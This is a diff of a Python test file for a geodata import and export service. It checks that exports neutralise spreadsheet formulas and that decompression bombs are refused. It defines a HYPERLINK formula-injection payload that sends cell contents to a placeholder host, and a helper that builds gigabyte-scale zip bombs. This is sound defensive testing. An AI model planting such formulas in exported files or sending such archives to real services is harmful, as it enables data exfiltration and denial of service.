@@ -7,19 +7,29 @@ from __future__ import annotations
 
 import csv
 import io
+import os
+import subprocess
+import sys
+import zipfile
+from pathlib import Path
 
+import geopandas as gpd
 import openpyxl
 import pandas as pd
 import pytest
 from click.testing import CliRunner
-from io_helpers import make_district, run, write_csv
+from io_helpers import make_district, run, write_csv, write_zipped_shapefile
+from io_helpers import write_xlsx as write_xlsx_rows
+from shapely import Point
 from sqlalchemy import text
 
 from geodata.export import export_layer
+from geodata.readers import _shapefile_encoding, read_input
 from geodata.sheets import FORMULA_STARTS, neutralise, write_xlsx
 from geodata.sheets import write_csv as sheet_csv
 from gridsvc.cli import cli
 from gridsvc.db import make_engine
+from gridsvc.errors import InputRejected
 
 #: The probe's payloads (issue 10, item 3).
 HYPERLINK = '=HYPERLINK("http://127.0.0.1:9/?x="&A1,"click")'
@@ -73,7 +83,7 @@ def poisoned(conn, settings, tmp_path):
     (written by SQL: the importer refuses such codes)."""
     make_district(conn)
     header = ["code", "name", "phone", "lon", "lat"]
-    rows = [["H1", HYPERLINK, DDE, 114.3125, 30.5825], ["H2", DDE, HYPERLINK, 114.305, 30.585]]
+    rows = [["H1", HYPERLINK, DDE, 114.3125, 30.5825], ["H2", DDE, DDE, 114.305, 30.585]]
     run(conn, settings, "households", write_csv(tmp_path / "in.csv", header, rows), crs="4326")
     conn.execute(text("UPDATE households SET code = :c WHERE code = 'H2'"), {"c": HYPERLINK})
     return conn
@@ -140,3 +150,122 @@ def test_cli_export_neutralises(scratch, settings, tmp_path):
                 assert_no_formula_in_csv(out.read_bytes())
             else:
                 assert formula_cells(openpyxl.load_workbook(out)) == []
+
+
+# --- archives (item 4) -------------------------------------------------------------------------
+
+GIB = 1 << 30
+
+
+def shapefile_bomb(path: Path, *, padding: int = GIB) -> Path:
+    """A ~1 MB zip holding a one-point Shapefile (no .cpg) whose .dbf is followed by ``padding``
+    zero bytes: streamed into the archive, never held in memory or on disk unzipped."""
+    folder = path.with_suffix("")
+    folder.mkdir()
+    points = gpd.GeoDataFrame({"code": ["S1"], "name": ["站"]}, geometry=[Point(114.31, 30.585)])
+    points.set_crs(4326).to_file(folder / "s.shp", engine="pyogrio", encoding="utf-8")
+    chunk = bytes(1 << 24)
+    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
+        for part in sorted(folder.iterdir()):
+            if part.suffix == ".cpg":
+                continue
+            if part.suffix != ".dbf":
+                archive.write(part, part.name)
+                continue
+            with archive.open(part.name, "w", force_zip64=True) as out:
+                out.write(part.read_bytes())
+                for _ in range(padding // len(chunk)):
+                    out.write(chunk)
+    return path
+
+
+@pytest.fixture(scope="module")
+def bomb(tmp_path_factory) -> Path:
+    return shapefile_bomb(tmp_path_factory.mktemp("bomb") / "bomb.zip")
+
+
+def test_bomb_is_small_and_refused_by_ratio_and_total(bomb, tmp_path):
+    assert bomb.stat().st_size < 2e6
+    with pytest.raises(InputRejected) as caught:
+        read_input(bomb, max_unzipped_mb=1e6)  # total cap out of the way: the ratio refuses
+    assert "would grow" in str(caught.value.rejects[0]) and "s.dbf" in str(caught.value.rejects[0])
+    with pytest.raises(InputRejected) as caught:
+        read_input(bomb, max_zip_ratio=1e6)
+    assert "GRIDSVC_MAX_UNZIPPED_MB" in str(caught.value.rejects[0])
+
+
+def test_bomb_through_the_cli_stays_under_300_mb(bomb, scratch_url):
+    """``gridsvc import stations bomb.zip`` in a subprocess: a clear reject, exit code 3,
+    an import_log row, and a peak resident size (its own and its children's) under 300 MB."""
+    probe = (
+        "import resource, subprocess, sys; "
+        "done = subprocess.run(sys.argv[1:], capture_output=True, text=True); "
+        "print(done.returncode); print(done.stderr); "
+        "print('PEAK_KB', resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss)"
+    )
+    gridsvc = str(Path(sys.executable).with_name("gridsvc"))
+    env = {**os.environ, "GRIDSVC_DATABASE_URL": scratch_url}
+    done = subprocess.run(
+        [sys.executable, "-c", probe, gridsvc, "import", "stations", str(bomb)],
+        capture_output=True,
+        text=True,
+        env=env,
+        timeout=300,
+        check=True,
+    )
+    lines = done.stdout.splitlines()
+    assert lines[0] == "3", done.stdout
+    assert "bomb.zip: file rejected, nothing imported" in done.stdout
+    assert "GRIDSVC_MAX_UNZIPPED_MB" in done.stdout
+    peak_mb = int(lines[-1].split()[1]) / 1024
+    assert peak_mb < 300, peak_mb
+    engine = make_engine(scratch_url)
+    with engine.begin() as conn:
+        logged = conn.execute(
+            text("DELETE FROM import_log WHERE source = 'bomb.zip' RETURNING rejected")
+        ).all()
+    engine.dispose()
+    assert [tuple(r) for r in logged] == [(1,)]
+
+
+def test_xlsx_bomb_is_refused(tmp_path):
+    book = tmp_path / "big.xlsx"
+    write_xlsx_rows(book, ["code", "lon", "lat"], [["S1", 114.31, 30.585]])
+    with (
+        zipfile.ZipFile(book, "a", zipfile.ZIP_DEFLATED) as archive,
+        archive.open("xl/media/pad.bin", "w", force_zip64=True) as out,
+    ):
+        for _ in range(4):
+            out.write(bytes(1 << 24))
+    with pytest.raises(InputRejected) as caught:
+        read_input(book)
+    assert "'xl/media/pad.bin' would grow" in str(caught.value.rejects[0])
+
+
+def test_encoding_detected_from_a_bounded_sample(tmp_path):
+    """A GBK Shapefile without .cpg is still read right; the sample is bounded even when the
+    .dbf is large (a bomb under the caps)."""
+    names = ["和平社区站", "积玉桥站"]
+    gdf = gpd.GeoDataFrame(
+        {"code": ["S1", "S2"], "name": names},
+        geometry=[Point(114.31, 30.585), Point(114.311, 30.585)],
+        crs=4326,
+    )
+    path = write_zipped_shapefile(tmp_path / "gbk.zip", gdf, encoding="gbk", cpg=False)
+    raw = read_input(path)
+    assert raw.encoding == "GB18030" and list(raw.frame["name"]) == names
+    padded = shapefile_bomb(tmp_path / "pad.zip", padding=64 << 20)
+    assert _shapefile_encoding(padded) == "UTF-8"
+    assert tracemalloc_peak(lambda: _shapefile_encoding(padded)) < 8 << 20
+
+
+def tracemalloc_peak(action) -> int:
+    """Peak bytes Python allocated while running ``action``."""
+    import tracemalloc
+
+    tracemalloc.start()
+    try:
+        action()
+        return tracemalloc.get_traced_memory()[1]
+    finally:
+        tracemalloc.stop()
